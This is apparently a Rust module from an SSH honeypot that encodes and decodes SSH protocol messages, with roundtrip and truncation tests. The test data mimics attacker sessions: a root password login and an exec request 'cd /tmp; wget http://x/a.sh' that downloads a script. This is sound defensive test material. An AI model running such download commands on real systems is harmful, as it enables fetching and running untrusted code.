//! SSH message encoding/decoding for the subset the honeypot dialogue uses.

use crate::wire::*;
use crate::SshError;

/// Message numbers (RFC 4250 §4.1.2).
pub mod num {
    pub const DISCONNECT: u8 = 1;
    pub const SERVICE_REQUEST: u8 = 5;
    pub const SERVICE_ACCEPT: u8 = 6;
    pub const KEXINIT: u8 = 20;
    pub const NEWKEYS: u8 = 21;
    pub const KEXDH_INIT: u8 = 30;
    pub const KEXDH_REPLY: u8 = 31;
    pub const USERAUTH_REQUEST: u8 = 50;
    pub const USERAUTH_FAILURE: u8 = 51;
    pub const USERAUTH_SUCCESS: u8 = 52;
    pub const CHANNEL_OPEN: u8 = 90;
    pub const CHANNEL_OPEN_CONFIRMATION: u8 = 91;
    pub const CHANNEL_OPEN_FAILURE: u8 = 92;
    pub const CHANNEL_DATA: u8 = 94;
    pub const CHANNEL_EOF: u8 = 96;
    pub const CHANNEL_CLOSE: u8 = 97;
    pub const CHANNEL_REQUEST: u8 = 98;
    pub const CHANNEL_SUCCESS: u8 = 99;
    pub const CHANNEL_FAILURE: u8 = 100;
}

/// Algorithm negotiation lists carried by `SSH_MSG_KEXINIT`. Each list
/// stays in its validated wire form: a UTF-8 `name-list`, names
/// separated by commas.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct KexInit<'a> {
    /// Anti-replay cookie.
    pub cookie: [u8; 16],
    /// Key exchange algorithm preferences.
    pub kex_algorithms: &'a str,
    /// Host key algorithm preferences.
    pub server_host_key_algorithms: &'a str,
    /// Cipher preferences, client→server.
    pub encryption_c2s: &'a str,
    /// Cipher preferences, server→client.
    pub encryption_s2c: &'a str,
    /// MAC preferences, client→server.
    pub mac_c2s: &'a str,
    /// MAC preferences, server→client.
    pub mac_s2c: &'a str,
}

impl KexInit<'static> {
    /// The lists this implementation advertises.
    pub fn default_with_cookie(cookie: [u8; 16]) -> Self {
        Self {
            cookie,
            kex_algorithms: "sim-nonce-sha256",
            server_host_key_algorithms: "ssh-ed25519",
            encryption_c2s: "none",
            encryption_s2c: "none",
            mac_c2s: "sim-sha256-16",
            mac_s2c: "sim-sha256-16",
        }
    }
}

/// The SSH messages the dialogue state machines exchange. A decoded
/// message borrows its strings and byte fields from the packet payload
/// it was decoded from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Message<'a> {
    /// Orderly disconnect.
    Disconnect {
        /// Reason code (RFC 4253 §11.1).
        code: u32,
        /// Human-readable description.
        description: &'a str,
    },
    /// `SSH_MSG_SERVICE_REQUEST`.
    ServiceRequest(&'a str),
    /// `SSH_MSG_SERVICE_ACCEPT`.
    ServiceAccept(&'a str),
    /// Algorithm negotiation.
    KexInit(KexInit<'a>),
    /// Keys taken into use.
    NewKeys,
    /// Client key-exchange contribution (a nonce in the stub KEX).
    KexdhInit {
        /// Client ephemeral value.
        e: &'a [u8],
    },
    /// Server key-exchange reply.
    KexdhReply {
        /// Server host key blob.
        host_key: &'a [u8],
        /// Server ephemeral value.
        f: &'a [u8],
        /// Signature over the exchange hash.
        signature: &'a [u8],
    },
    /// Password authentication attempt (`method` fixed to "password") or a
    /// "none" probe when `password` is `None`.
    UserauthRequest {
        /// Login name.
        username: &'a str,
        /// Requested service, normally `ssh-connection`.
        service: &'a str,
        /// Password, or `None` for the `none` method.
        password: Option<&'a str>,
    },
    /// Authentication rejected.
    UserauthFailure {
        /// Methods that can continue, as a comma-separated `name-list`.
        methods: &'a str,
    },
    /// Authentication accepted.
    UserauthSuccess,
    /// Open a channel.
    ChannelOpen {
        /// Channel type, e.g. `session`.
        kind: &'a str,
        /// Sender's channel id.
        sender: u32,
        /// Initial window size.
        window: u32,
        /// Maximum packet size.
        max_packet: u32,
    },
    /// Channel open accepted.
    ChannelOpenConfirmation {
        /// Recipient's channel id (the opener's).
        recipient: u32,
        /// Sender's channel id.
        sender: u32,
        /// Initial window size.
        window: u32,
        /// Maximum packet size.
        max_packet: u32,
    },
    /// Channel open rejected.
    ChannelOpenFailure {
        /// Recipient's channel id.
        recipient: u32,
        /// Reason code.
        code: u32,
    },
    /// Channel payload bytes.
    ChannelData {
        /// Recipient's channel id.
        recipient: u32,
        /// Data.
        data: &'a [u8],
    },
    /// No more data will be sent.
    ChannelEof {
        /// Recipient's channel id.
        recipient: u32,
    },
    /// Channel closed.
    ChannelClose {
        /// Recipient's channel id.
        recipient: u32,
    },
    /// Channel request: `exec`, `shell`, `exit-status`, ….
    ChannelRequest {
        /// Recipient's channel id.
        recipient: u32,
        /// Request type.
        kind: &'a str,
        /// Whether the peer wants SUCCESS/FAILURE.
        want_reply: bool,
        /// Request-specific payload (e.g. the command line for `exec`,
        /// big-endian status for `exit-status`).
        payload: &'a [u8],
    },
    /// Channel request succeeded.
    ChannelSuccess {
        /// Recipient's channel id.
        recipient: u32,
    },
    /// Channel request failed.
    ChannelFailure {
        /// Recipient's channel id.
        recipient: u32,
    },
}

impl<'a> Message<'a> {
    /// Appends the message's packet payload to `b`.
    pub fn encode_into(&self, b: &mut Vec<u8>) {
        match *self {
            Message::Disconnect { code, description } => {
                put_u8(b, num::DISCONNECT);
                put_u32(b, code);
                put_string(b, description.as_bytes());
                put_string(b, b""); // language tag
            }
            Message::ServiceRequest(name) => {
                put_u8(b, num::SERVICE_REQUEST);
                put_string(b, name.as_bytes());
            }
            Message::ServiceAccept(name) => {
                put_u8(b, num::SERVICE_ACCEPT);
                put_string(b, name.as_bytes());
            }
            Message::KexInit(k) => {
                put_u8(b, num::KEXINIT);
                b.extend_from_slice(&k.cookie);
                for list in [
                    k.kex_algorithms,
                    k.server_host_key_algorithms,
                    k.encryption_c2s,
                    k.encryption_s2c,
                    k.mac_c2s,
                    k.mac_s2c,
                ] {
                    put_string(b, list.as_bytes());
                }
                // compression c2s/s2c and languages c2s/s2c: fixed.
                put_string(b, b"none");
                put_string(b, b"none");
                put_string(b, b"");
                put_string(b, b"");
                put_bool(b, false); // first_kex_packet_follows
                put_u32(b, 0); // reserved
            }
            Message::NewKeys => {
                put_u8(b, num::NEWKEYS);
            }
            Message::KexdhInit { e } => {
                put_u8(b, num::KEXDH_INIT);
                put_string(b, e);
            }
            Message::KexdhReply {
                host_key,
                f,
                signature,
            } => {
                put_u8(b, num::KEXDH_REPLY);
                put_string(b, host_key);
                put_string(b, f);
                put_string(b, signature);
            }
            Message::UserauthRequest {
                username,
                service,
                password,
            } => {
                put_u8(b, num::USERAUTH_REQUEST);
                put_string(b, username.as_bytes());
                put_string(b, service.as_bytes());
                match password {
                    Some(pw) => {
                        put_string(b, b"password");
                        put_bool(b, false);
                        put_string(b, pw.as_bytes());
                    }
                    None => put_string(b, b"none"),
                }
            }
            Message::UserauthFailure { methods } => {
                put_u8(b, num::USERAUTH_FAILURE);
                put_string(b, methods.as_bytes());
                put_bool(b, false);
            }
            Message::UserauthSuccess => {
                put_u8(b, num::USERAUTH_SUCCESS);
            }
            Message::ChannelOpen {
                kind,
                sender,
                window,
                max_packet,
            } => {
                put_u8(b, num::CHANNEL_OPEN);
                put_string(b, kind.as_bytes());
                put_u32(b, sender);
                put_u32(b, window);
                put_u32(b, max_packet);
            }
            Message::ChannelOpenConfirmation {
                recipient,
                sender,
                window,
                max_packet,
            } => {
                put_u8(b, num::CHANNEL_OPEN_CONFIRMATION);
                put_u32(b, recipient);
                put_u32(b, sender);
                put_u32(b, window);
                put_u32(b, max_packet);
            }
            Message::ChannelOpenFailure { recipient, code } => {
                put_u8(b, num::CHANNEL_OPEN_FAILURE);
                put_u32(b, recipient);
                put_u32(b, code);
                put_string(b, b"open failed");
                put_string(b, b"");
            }
            Message::ChannelData { recipient, data } => {
                put_u8(b, num::CHANNEL_DATA);
                put_u32(b, recipient);
                put_string(b, data);
            }
            Message::ChannelEof { recipient } => {
                put_u8(b, num::CHANNEL_EOF);
                put_u32(b, recipient);
            }
            Message::ChannelClose { recipient } => {
                put_u8(b, num::CHANNEL_CLOSE);
                put_u32(b, recipient);
            }
            Message::ChannelRequest {
                recipient,
                kind,
                want_reply,
                payload,
            } => {
                put_u8(b, num::CHANNEL_REQUEST);
                put_u32(b, recipient);
                put_string(b, kind.as_bytes());
                put_bool(b, want_reply);
                b.extend_from_slice(payload);
            }
            Message::ChannelSuccess { recipient } => {
                put_u8(b, num::CHANNEL_SUCCESS);
                put_u32(b, recipient);
            }
            Message::ChannelFailure { recipient } => {
                put_u8(b, num::CHANNEL_FAILURE);
                put_u32(b, recipient);
            }
        }
    }

    /// Parses a packet payload into a message that borrows from it.
    pub fn decode(payload: &'a [u8]) -> Result<Message<'a>, SshError> {
        let mut p = payload;
        let tag = get_u8(&mut p)?;
        let msg = match tag {
            num::DISCONNECT => {
                let code = get_u32(&mut p)?;
                let description = get_utf8(&mut p)?;
                let _lang = get_string(&mut p)?;
                Message::Disconnect { code, description }
            }
            num::SERVICE_REQUEST => Message::ServiceRequest(get_utf8(&mut p)?),
            num::SERVICE_ACCEPT => Message::ServiceAccept(get_utf8(&mut p)?),
            num::KEXINIT => {
                let Some((cookie, rest)) = p.split_first_chunk::<16>() else {
                    return Err(SshError::Decode("short KEXINIT cookie".into()));
                };
                p = rest;
                let kex_algorithms = get_utf8(&mut p)?;
                let server_host_key_algorithms = get_utf8(&mut p)?;
                let encryption_c2s = get_utf8(&mut p)?;
                let encryption_s2c = get_utf8(&mut p)?;
                let mac_c2s = get_utf8(&mut p)?;
                let mac_s2c = get_utf8(&mut p)?;
                let _comp_c2s = get_utf8(&mut p)?;
                let _comp_s2c = get_utf8(&mut p)?;
                let _lang_c2s = get_utf8(&mut p)?;
                let _lang_s2c = get_utf8(&mut p)?;
                let _first = get_bool(&mut p)?;
                let _reserved = get_u32(&mut p)?;
                Message::KexInit(KexInit {
                    cookie: *cookie,
                    kex_algorithms,
                    server_host_key_algorithms,
                    encryption_c2s,
                    encryption_s2c,
                    mac_c2s,
                    mac_s2c,
                })
            }
            num::NEWKEYS => Message::NewKeys,
            num::KEXDH_INIT => Message::KexdhInit {
                e: get_string(&mut p)?,
            },
            num::KEXDH_REPLY => Message::KexdhReply {
                host_key: get_string(&mut p)?,
                f: get_string(&mut p)?,
                signature: get_string(&mut p)?,
            },
            num::USERAUTH_REQUEST => {
                let username = get_utf8(&mut p)?;
                let service = get_utf8(&mut p)?;
                let password = match get_utf8(&mut p)? {
                    "password" => {
                        let _change = get_bool(&mut p)?;
                        Some(get_utf8(&mut p)?)
                    }
                    "none" => None,
                    other => {
                        return Err(SshError::Decode(format!("unsupported auth method {other}")))
                    }
                };
                Message::UserauthRequest {
                    username,
                    service,
                    password,
                }
            }
            num::USERAUTH_FAILURE => {
                let methods = get_utf8(&mut p)?;
                let _partial = get_bool(&mut p)?;
                Message::UserauthFailure { methods }
            }
            num::USERAUTH_SUCCESS => Message::UserauthSuccess,
            num::CHANNEL_OPEN => Message::ChannelOpen {
                kind: get_utf8(&mut p)?,
                sender: get_u32(&mut p)?,
                window: get_u32(&mut p)?,
                max_packet: get_u32(&mut p)?,
            },
            num::CHANNEL_OPEN_CONFIRMATION => Message::ChannelOpenConfirmation {
                recipient: get_u32(&mut p)?,
                sender: get_u32(&mut p)?,
                window: get_u32(&mut p)?,
                max_packet: get_u32(&mut p)?,
            },
            num::CHANNEL_OPEN_FAILURE => {
                let recipient = get_u32(&mut p)?;
                let code = get_u32(&mut p)?;
                let _desc = get_string(&mut p)?;
                let _lang = get_string(&mut p)?;
                Message::ChannelOpenFailure { recipient, code }
            }
            num::CHANNEL_DATA => Message::ChannelData {
                recipient: get_u32(&mut p)?,
                data: get_string(&mut p)?,
            },
            num::CHANNEL_EOF => Message::ChannelEof {
                recipient: get_u32(&mut p)?,
            },
            num::CHANNEL_CLOSE => Message::ChannelClose {
                recipient: get_u32(&mut p)?,
            },
            num::CHANNEL_REQUEST => {
                let recipient = get_u32(&mut p)?;
                let kind = get_utf8(&mut p)?;
                let want_reply = get_bool(&mut p)?;
                Message::ChannelRequest {
                    recipient,
                    kind,
                    want_reply,
                    payload: p,
                }
            }
            num::CHANNEL_SUCCESS => Message::ChannelSuccess {
                recipient: get_u32(&mut p)?,
            },
            num::CHANNEL_FAILURE => Message::ChannelFailure {
                recipient: get_u32(&mut p)?,
            },
            other => return Err(SshError::Decode(format!("unknown message number {other}"))),
        };
        Ok(msg)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(m: Message) {
        let mut enc = Vec::new();
        m.encode_into(&mut enc);
        assert_eq!(Message::decode(&enc).unwrap(), m);
    }

    #[test]
    fn roundtrip_all_variants() {
        roundtrip(Message::Disconnect {
            code: 11,
            description: "bye",
        });
        roundtrip(Message::ServiceRequest("ssh-userauth"));
        roundtrip(Message::ServiceAccept("ssh-userauth"));
        roundtrip(Message::KexInit(KexInit::default_with_cookie([9u8; 16])));
        roundtrip(Message::KexInit(KexInit {
            kex_algorithms: "curve25519-sha256,diffie-hellman-group14-sha256",
            mac_s2c: "",
            ..KexInit::default_with_cookie([3u8; 16])
        }));
        roundtrip(Message::NewKeys);
        roundtrip(Message::KexdhInit { e: b"nonceA" });
        roundtrip(Message::KexdhReply {
            host_key: b"hostkey",
            f: b"nonceB",
            signature: b"sig",
        });
        roundtrip(Message::UserauthRequest {
            username: "root",
            service: "ssh-connection",
            password: Some("vertex25ektks123"),
        });
        roundtrip(Message::UserauthRequest {
            username: "phil",
            service: "ssh-connection",
            password: None,
        });
        roundtrip(Message::UserauthFailure {
            methods: "password",
        });
        roundtrip(Message::UserauthSuccess);
        roundtrip(Message::ChannelOpen {
            kind: "session",
            sender: 0,
            window: 1 << 20,
            max_packet: 32_768,
        });
        roundtrip(Message::ChannelOpenConfirmation {
            recipient: 0,
            sender: 1,
            window: 1 << 20,
            max_packet: 32_768,
        });
        roundtrip(Message::ChannelOpenFailure {
            recipient: 0,
            code: 2,
        });
        roundtrip(Message::ChannelData {
            recipient: 0,
            data: b"uname -a\n",
        });
        roundtrip(Message::ChannelEof { recipient: 0 });
        roundtrip(Message::ChannelClose { recipient: 0 });
        let mut exec = Vec::new();
        put_string(&mut exec, b"cd /tmp; wget http://x/a.sh");
        roundtrip(Message::ChannelRequest {
            recipient: 0,
            kind: "exec",
            want_reply: true,
            payload: &exec,
        });
        roundtrip(Message::ChannelSuccess { recipient: 0 });
        roundtrip(Message::ChannelFailure { recipient: 0 });
    }

    #[test]
    fn unknown_message_number_is_decode_error() {
        assert!(matches!(Message::decode(&[200]), Err(SshError::Decode(_))));
    }

    #[test]
    fn unsupported_auth_method_is_rejected() {
        let mut b = Vec::new();
        put_u8(&mut b, num::USERAUTH_REQUEST);
        put_string(&mut b, b"root");
        put_string(&mut b, b"ssh-connection");
        put_string(&mut b, b"publickey");
        assert!(matches!(Message::decode(&b), Err(SshError::Decode(_))));
    }

    #[test]
    fn truncated_kexinit_is_decode_error() {
        let mut b = Vec::new();
        put_u8(&mut b, num::KEXINIT);
        b.extend_from_slice(&[0u8; 8]); // half a cookie
        assert!(matches!(Message::decode(&b), Err(SshError::Decode(_))));
    }

    #[test]
    fn every_truncation_of_every_variant_is_a_decode_error() {
        let mut exec = Vec::new();
        put_string(&mut exec, b"uname -a");
        for m in [
            Message::KexInit(KexInit::default_with_cookie([1; 16])),
            Message::UserauthRequest {
                username: "root",
                service: "ssh-connection",
                password: Some("admin"),
            },
            Message::ChannelOpen {
                kind: "session",
                sender: 0,
                window: 1,
                max_packet: 2,
            },
            Message::ChannelRequest {
                recipient: 0,
                kind: "exec",
                want_reply: true,
                payload: &exec,
            },
        ] {
            let mut enc = Vec::new();
            m.encode_into(&mut enc);
            // A CHANNEL_REQUEST's payload runs to the end of the packet,
            // so only its fixed fields can come up short.
            let fixed = match m {
                Message::ChannelRequest { payload, .. } => enc.len() - payload.len(),
                _ => enc.len(),
            };
            for cut in 0..fixed {
                assert!(
                    matches!(Message::decode(&enc[..cut]), Err(SshError::Decode(_))),
                    "{m:?} cut at {cut}"
                );
            }
        }
    }

    #[test]
    fn non_utf8_names_are_decode_errors() {
        let mut b = Vec::new();
        put_u8(&mut b, num::USERAUTH_REQUEST);
        put_string(&mut b, &[0xc3, 0x28]); // an invalid two-byte sequence
        put_string(&mut b, b"ssh-connection");
        put_string(&mut b, b"none");
        assert!(matches!(Message::decode(&b), Err(SshError::Decode(_))));
        let mut b = Vec::new();
        Message::KexInit(KexInit::default_with_cookie([0; 16])).encode_into(&mut b);
        b[1 + 16 + 4] = 0xff; // first byte of the kex name-list
        assert!(matches!(Message::decode(&b), Err(SshError::Decode(_))));
    }
}
